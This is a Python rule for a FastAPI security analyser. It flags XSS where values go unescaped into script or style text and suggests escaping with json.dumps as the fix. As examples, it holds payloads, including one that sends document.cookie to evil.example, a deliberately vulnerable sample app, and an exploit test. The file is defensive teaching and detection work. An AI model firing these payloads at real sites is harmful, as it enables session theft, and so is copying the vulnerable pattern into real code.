"""A value is written into JavaScript or CSS text as it is.

`f'location.hash = "{name}"'` is JavaScript with a hole: a quote in `name` ends the text, and what follows runs in the browser of
whoever receives it, with their session. JSON in a `<script>` element looks safe and is not, since the browser ends the element at
the first `</script>`, wherever it stands; so it is with `</style>`. `json.dumps` makes a JavaScript text of a value, and
`.replace("<", "\\\\u003c")` one that cannot close the element.

Reported are f-strings that are JavaScript by their own syntax, or that a call takes whose name says JavaScript, with a
parameter or an attribute that is text between the script's quotes; what a `<style>` element holds; and `json.dumps` inside a `<script>`
element. Names of values that programs make (ids, modes, themes) and scripts for a browser that the service drives itself are left alone.

Known limits: texts that are put together by `+` or `format` are not read, and whether people can write the value is not followed.
"""

from __future__ import annotations

from collections.abc import Iterator

from fastapi_architect.analyses.script_texts import ScriptText, script_texts
from fastapi_architect.rules.kit import AppGraph, Confidence, Finding, Proof, Rule, Severity, routes_of

rule = Rule(
    __name__,
    "A value is written into a script as it is",
    severity=Severity.IMPORTANT,
    cwe=79,
    cvss="AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N",
    references=(
        "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
        "https://html.spec.whatwg.org/multipage/scripting.html#restrictions-for-contents-of-script-elements",
    ),
)

_WHERE = {
    "quoted": "stands between the quotes of a script as it is: a quote in it ends the text, and what follows runs",
    "style": "is all that a `<style>` element holds: `</style>` in it ends the element, and a `<script>` may follow",
    "json": "stands as JSON in a `<script>` element: `</script>` in any text of it ends the element, and another may follow",
}
_ATTACKS = {
    "quoted": '";fetch(`//evil.example/${document.cookie}`);//',
    "style": "</style><script>steal()</script>",
}
_CLOSING = "</script><script>steal()</script>"


@rule.check(per=AppGraph)
def value_in_a_script(graph: AppGraph, _: AppGraph) -> Iterator[Finding]:
    for text in script_texts(graph):
        operations = graph.entries(text.function)
        yield rule.at(
            text.site,
            f"`{text.name}` {_WHERE[text.kind]}.",
            _suggestion(text),
            reasoning=f"`{text.function.name}` makes a text that a browser runs, and nothing is done to `{text.name}` before "
            "it becomes part of it.",
            exploit=f"`{_ATTACKS.get(text.kind, _CLOSING)}` for `{text.name}` runs in the browser of whoever receives the script.",
            confidence=Confidence.FIRM,
            routes=routes_of(operations),
        )


def _suggestion(text: ScriptText) -> str:
    name = text.name if text.name.isidentifier() else "value"
    if text.kind == "style":
        return f'Refuse or escape what can close the element:\n```python\nstyle = {name}.replace("<", "\\\\3c ")\n```'
    return (
        "Write the value as JSON, quotes included, with `<` escaped for pages:\n"
        f'```python\nimport json\n\ntext = json.dumps({name}).replace("<", "\\\\u003c")\n```'
    )


_APP = """
    import json

    from fastapi import FastAPI
    from fastapi.responses import HTMLResponse

    app = FastAPI()

    def title(words: str) -> str:
        %s

    @app.get("/search", response_class=HTMLResponse)
    def search(words: str = "") -> str:
        return "<p>Nothing found.</p>" + title(words)
"""

rule.bad = (
    _APP % """return f'<script>document.title = "{words}";</script>'  # finding: value-in-script-text"""
)

rule.good = _APP % (
    'text = json.dumps(words).replace("<", "\\\\u003c")\n        return f"<script>document.title = {text};</script>"'
)


@rule.exploit
def words_end_the_text(proof: Proof) -> None:
    """Words with a quote in them come back as statements of the page's script."""
    assert 'document.title = "tea";' in proof.client.get("/search", params={"words": "tea"}).text
    answer = proof.client.get("/search", params={"words": '";steal();//'})
    assert 'document.title = "";steal();//' in answer.text
